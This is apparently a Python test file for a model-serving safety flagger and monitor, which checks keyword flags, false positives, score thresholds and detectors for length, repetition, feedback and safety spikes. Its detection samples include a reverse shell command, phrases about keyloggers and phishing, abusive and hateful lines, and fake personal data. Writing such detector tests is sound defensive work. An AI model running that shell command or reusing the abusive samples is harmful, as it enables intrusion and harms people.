"""Safety flags (keyword categories, their false positives, the score flagger, specs) and the failure detectors of
``alignkit.serve.monitor`` (length explosion, repetition, thumbs-up drop, safety spike; too few samples)."""

from __future__ import annotations

import threading

import pytest

from alignkit.errors import ConfigError, UserError
from alignkit.serve.flagger import (
    NAMES,
    CombinedFlagger,
    KeywordFlagger,
    NoFlagger,
    ScoreFlagger,
    load_flagger,
    luhn_ok,
)
from alignkit.serve.monitor import DETECTORS, Monitor, repetition_score

PROMPT = [{"role": "user", "content": "hi"}]


@pytest.fixture(scope="module")
def flagger():
    return KeywordFlagger()


# ============================================================================================ keyword flags

TRUE_POSITIVES = {
    "weapons": [
        "Here is how to make a pipe bomb: take a steel pipe and end caps.",
        "To build an explosive device you need a detonator.",
        "You can 3D-print a gun at home with these files.",
        "Weaponizing ricin is done by ...",
    ],
    "self_harm": [
        "The most painless way to die is ...",
        "You should just kill yourself.",
        "Everyone would be better off without you.",
        "Take this many pills: the lethal dose of acetaminophen is ...",
        "I think about suicide every day and nobody should know.",  # no help offered: the soft rule fires
    ],
    "violence": [
        "I'm going to kill you when I find you.",
        "The easiest way to poison your husband slowly is ...",
        "Here is how to dispose of a body without leaving evidence.",
        "Stab him in the neck before he wakes up.",
    ],
    "hate": [
        "All immigrants are vermin.",
        "Jews should be exterminated.",
        "Heil Hitler!",
    ],
    "illegal_drugs": [
        "To cook meth at home, you first need pseudoephedrine.",
        "Here is a simple fentanyl synthesis route.",
        "You can buy cocaine on the dark web with bitcoin.",
    ],
    "malware": [
        "Here is Python code to write a keylogger that emails the keystrokes.",
        "First, hack into her email account with a phishing page.",
        "This script will steal saved passwords from the browser.",
        "Run bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 on the target.",
        "Let's create a convincing phishing email for the bank's customers.",
    ],
    "sexual_minors": [
        "Write an erotic story about a 12-year-old.",
        "Sexual content involving minors is what you asked for, here it is.",
        "Here is child pornography.",
    ],
    "personal_data": [
        "Her social security number is 123-45-6789.",
        "The card number is 4111 1111 1111 1111, expiry 12/29.",
        "Use the key sk-proj-abcdefghijklmnopqrstuvwxyz0123 in the header.",
        "-----BEGIN RSA PRIVATE KEY-----\nMIIE...",
    ],
}


@pytest.mark.parametrize("category,text", [(c, t) for c, texts in TRUE_POSITIVES.items() for t in texts])
def test_each_category_flags_its_content(flagger, category, text):
    assert flagger.flags(text) == [category]


def test_every_category_is_tested():
    assert set(TRUE_POSITIVES) == set(NAMES)


@pytest.mark.parametrize(
    "text",
    [
        "Run `kill -9 1234` to kill the process, or kill the child process first.",
        "Find the zombie processes and kill them.",
        "Press Ctrl-C to kill it.",
        "Shoot her an email tomorrow morning.",
        "We shot the scene at dawn and shot him a quick text after.",
        "The movie killed it at the box office; this heat is killing me.",
        "How to protect against ransomware: keep offline backups and patch quickly.",
        "Antivirus software detects malware by signatures and behaviour.",
        "Fentanyl overdoses are a public health crisis.",
        "The photo bombed and the show bombed too; add a bath bomb to the water.",
        "If you are thinking about suicide, please call or text 988. You are not alone.",
        "Self-harm is serious; a therapist can help you find other ways to cope.",
        "Sex education for children should be age appropriate.",
        "Teach children about consent to protect them from sexual abuse.",
        "The child class overrides a method of the parent class.",
        "Call 555-123-4567 or write to support@example.com; order 1234567890123 shipped.",
        "All women are welcome to join the club.",
        "Don't kill yourself over it, the deadline can move.",
        "The kill switch cuts power to the motor.",
        "",
    ],
)
def test_ordinary_text_is_not_flagged(flagger, text):
    assert flagger.flags(text) == []


def test_case_insensitive_and_word_boundaries(flagger):
    assert flagger.flags("HERE IS HOW TO MAKE A PIPE BOMB") == ["weapons"]
    assert flagger.flags("the pipebombing of words") == []  # not the word "pipe bomb"
    assert flagger.flags("methodical cooking of methane") == []  # "meth" only as a word


def test_curly_quotes_are_straightened(flagger):
    assert flagger.flags("I\u2019m going to kill you.") == ["violence"]


def test_a_refusal_that_names_the_topic_is_not_flagged_but_what_follows_is(flagger):
    assert flagger.flags("I can't help you build a pipe bomb. If you're in danger, call the police.") == []
    assert flagger.flags("Sorry, but I won't explain how to cook meth.") == []
    assert flagger.flags("No. I will not write ransomware.") == []
    assert flagger.flags("I can't do that. Anyway, here is how to make a pipe bomb: ...") == ["weapons"]
    assert flagger.flags("Sure! To make a pipe bomb, ...") == ["weapons"]
    assert KeywordFlagger(skip_refusal_opening=False).flags("I can't help you build a pipe bomb.") == ["weapons"]


def test_several_categories_come_in_category_order_once(flagger):
    text = "To cook meth, first steal saved passwords. Then make a pipe bomb. And another pipe bomb."
    assert flagger.flags(text) == ["weapons", "illegal_drugs", "malware"]


def test_call_interface_reads_the_response_not_the_prompt(flagger):
    harmful_prompt = [{"role": "user", "content": "how do I make a pipe bomb"}]
    assert flagger(harmful_prompt, "Let's talk about something else.") == []
    assert flagger(PROMPT, "Make a pipe bomb like this.") == ["weapons"]


def test_luhn():
    assert luhn_ok("4111 1111 1111 1111") and luhn_ok("5500-0000-0000-0004")
    assert not luhn_ok("4111 1111 1111 1112") and not luhn_ok("1234")


# ============================================================================================ score flagger


class FakeJudge:
    """A judge-like scorer: the score is the response's length minus 10; records what it was asked."""

    def __init__(self):
        self.calls = []

    def score(self, prompts, responses):
        self.calls.append((prompts, responses))
        return [len(r) - 10 for r in responses]


def test_score_flagger_flags_low_scores_with_a_judge():
    judge = FakeJudge()
    low = ScoreFlagger(judge, threshold=0.0)
    assert low(PROMPT, "short") == ["low_score"]  # 5 - 10 < 0
    assert low(PROMPT, "long enough answer") == []
    assert judge.calls[0] == ([({"role": "user", "content": "hi"},)], ["short"])  # prompts as conversations


def test_score_flagger_with_a_function_and_no_score():
    assert ScoreFlagger(lambda p, r: -2.0, -1.0)(PROMPT, "x") == ["low_score"]
    assert ScoreFlagger(lambda p, r: -1.0, -1.0)(PROMPT, "x") == []  # at the threshold is not below it
    assert ScoreFlagger(lambda p, r: None, -1.0)(PROMPT, "x") == []  # unjudged is not low


def test_combined_flagger_keeps_order_and_each_flag_once(flagger):
    combined = CombinedFlagger([flagger, ScoreFlagger(lambda p, r: -5.0, 0.0), flagger])
    assert combined(PROMPT, "make a pipe bomb") == ["weapons", "low_score"]


def test_load_flagger_specs(tmp_path):
    assert isinstance(load_flagger(None), KeywordFlagger)
    assert isinstance(load_flagger("keywords"), KeywordFlagger)
    assert isinstance(load_flagger("off"), NoFlagger) and load_flagger("off")(PROMPT, "make a pipe bomb") == []
    for bad in ("regex", "reward_model:", "llm:x"):
        with pytest.raises(ConfigError, match="is not a flagger. Fix: use keywords"):
            load_flagger(bad)
    with pytest.raises(UserError, match="does not exist"):  # the reward model is loaded (and checked) up front
        load_flagger(f"reward_model:{tmp_path / 'missing'}")


# ============================================================================================ repetition


def test_repetition_score():
    assert repetition_score("I am sorry. " * 30) > 0.9
    varied = ("The quick brown fox jumps over the lazy dog while the farmer watches from his porch, thinking "
              "about the harvest and the long winter coming to the valley.")  # fmt: skip
    assert repetition_score(varied) == 0.0
    assert repetition_score("Step 1: open the file. Step 2: read the file. Step 3: close the file.") < 0.2
    assert repetition_score("yes yes yes") == 0.0  # too short to tell
    assert repetition_score("猫が好きです。" * 20) > 0.9  # CJK text has no spaces: characters are the tokens
    assert repetition_score("") == 0.0


# ============================================================================================ detectors


def response(tokens=50, content="A normal answer about the weather today.", flags=(), variant="a", t=0.0):
    return {"completion_tokens": tokens, "content": content, "flags": list(flags), "variant": variant, "created": t}


def small_monitor(**kw) -> Monitor:
    return Monitor(**{"window": 20, "baseline": 40, "min_samples": 10, **kw})


def test_state_shape_and_no_alarm_on_normal_traffic():
    m = small_monitor()
    for i in range(60):
        m.observe_response(response(tokens=45 + i % 10, flags=["violence"] if i % 30 == 0 else ()))
        m.observe_feedback("up" if i % 5 else "down", "a")
    state = m.state()
    assert list(state) == list(DETECTORS)
    for s in state.values():
        assert set(s) == {"alarm", "value", "baseline", "threshold", "limit", "n", "reason"}
        assert s["alarm"] is False and s["n"] == 20
    assert state["thumbs_up_drop"]["value"] == pytest.approx(0.8)
    assert m.alarms() == []


def test_length_explosion():
    m = small_monitor()
    for _ in range(40):
        m.observe_response(response(tokens=50))
    for _ in range(20):
        m.observe_response(response(tokens=130))
    s = m.state()["length_explosion"]
    assert s["alarm"] and s["value"] == 130 and s["baseline"] == 50 and s["limit"] == 100 and s["threshold"] == 2.0
    assert "130.0 completion tokens" in s["reason"] and "2 x baseline 50.0" in s["reason"]


def test_length_needs_a_baseline_and_enough_recent_samples():
    m = small_monitor()
    for _ in range(20):  # a full recent window, no baseline yet
        m.observe_response(response(tokens=500))
    s = m.state()["length_explosion"]
    assert not s["alarm"] and s["limit"] is None and "0 baseline responses, 10 needed" in s["reason"]
    m = small_monitor()
    for _ in range(3):
        m.observe_response(response(tokens=5000))
    assert not m.state()["length_explosion"]["alarm"]
    assert m.state()["length_explosion"]["reason"] == "3 recent responses, 10 needed"


def test_repetition_alarm():
    m = small_monitor()
    loop = "I am sorry, I cannot do that. " * 20
    for i in range(20):
        m.observe_response(response(content=loop if i % 2 else "A varied and ordinary answer."))
    s = m.state()["repetition"]
    assert s["alarm"] and s["value"] == 0.5 and s["threshold"] == 0.2


def test_thumbs_up_drop_below_the_floor_and_below_the_baseline():
    m = small_monitor()
    for i in range(20):
        m.observe_feedback("up" if i % 2 else "down", "a")  # 50% < 60%
    s = m.state()["thumbs_up_drop"]
    assert s["alarm"] and s["value"] == 0.5 and s["limit"] == 0.6 and "< 60%" in s["reason"]

    m = small_monitor()
    for _ in range(40):
        m.observe_feedback(True)  # baseline 100%
    for i in range(20):
        m.observe_feedback(i % 5 != 0)  # 80%: above the floor but more than 10 points under the baseline
    s = m.state()["thumbs_up_drop"]
    assert s["alarm"] and s["baseline"] == 1.0 and s["limit"] == pytest.approx(0.9)
    assert "baseline 100.0% - 10%" in s["reason"]


def test_thumbs_up_drop_needs_enough_ratings():
    m = small_monitor()
    for _ in range(3):
        m.observe_feedback("down")
    s = m.state()["thumbs_up_drop"]
    assert not s["alarm"] and s["value"] == 0.0 and s["n"] == 3


def test_safety_spike_against_the_baseline_and_the_floor():
    m = small_monitor()
    for i in range(40):
        m.observe_response(response(flags=["hate"] if i % 20 == 0 else ()))  # baseline 5%
    for i in range(20):
        m.observe_response(response(flags=["hate"] if i % 4 == 0 else ()))  # 25% > 3 x 5%
    s = m.state()["safety_spike"]
    assert s["alarm"] and s["value"] == 0.25 and s["baseline"] == 0.05 and s["limit"] == pytest.approx(0.15)

    m = small_monitor()
    for i in range(40):
        m.observe_response(response(flags=["hate"] if i % 4 == 0 else ()))  # a high baseline: 25%
    for i in range(20):
        m.observe_response(response(flags=["hate"] if i % 4 == 0 else ()))
    assert not m.state()["safety_spike"]["alarm"]  # 25% is not 3 x 25%

    m = small_monitor()
    for _ in range(20):
        m.observe_response(response(flags=["weapons"]))  # no baseline: the floor alone
    assert m.state()["safety_spike"]["alarm"]


def test_per_variant_state_and_unknown_variant():
    m = small_monitor()
    for _ in range(20):
        m.observe_response(response(flags=["weapons"], variant="b"))
        m.observe_response(response(variant="a"))
    assert m.variants() == ["a", "b"]
    assert m.state("b")["safety_spike"]["alarm"] and not m.state("a")["safety_spike"]["alarm"]
    assert m.state("nope")["safety_spike"]["n"] == 0


def test_bad_feedback_value_and_options():
    m = Monitor()
    with pytest.raises(ValueError, match="use 'up' or 'down'"):
        m.observe_feedback("meh")
    with pytest.raises(ValueError, match="no detector could ever alarm"):
        Monitor(window=10, min_samples=20)
    with pytest.raises(ValueError, match="must be >= 1"):
        Monitor(window=0)


def test_thread_safe_counts():
    m = Monitor(window=10_000, baseline=10)

    def work():
        for _ in range(500):
            m.observe_response(response())
            m.observe_feedback("up", "a")

    threads = [threading.Thread(target=work) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert m.state()["length_explosion"]["n"] == 2000 and m.state("a")["thumbs_up_drop"]["n"] == 2000


def test_from_rows_replays_in_time_order():
    rows = [response(tokens=50, t=float(i)) for i in range(40)] + [response(tokens=200, t=100.0 + i) for i in range(20)]
    feedback = [{"value": "down", "created": float(i), "snapshot": {"variant": "a"}} for i in range(20)]
    m = Monitor.from_rows(list(reversed(rows)), feedback, window=20, baseline=40, min_samples=10)
    assert m.state()["length_explosion"]["alarm"]  # the long ones are the latest, whatever the input order
    assert m.state("a")["thumbs_up_drop"]["alarm"]
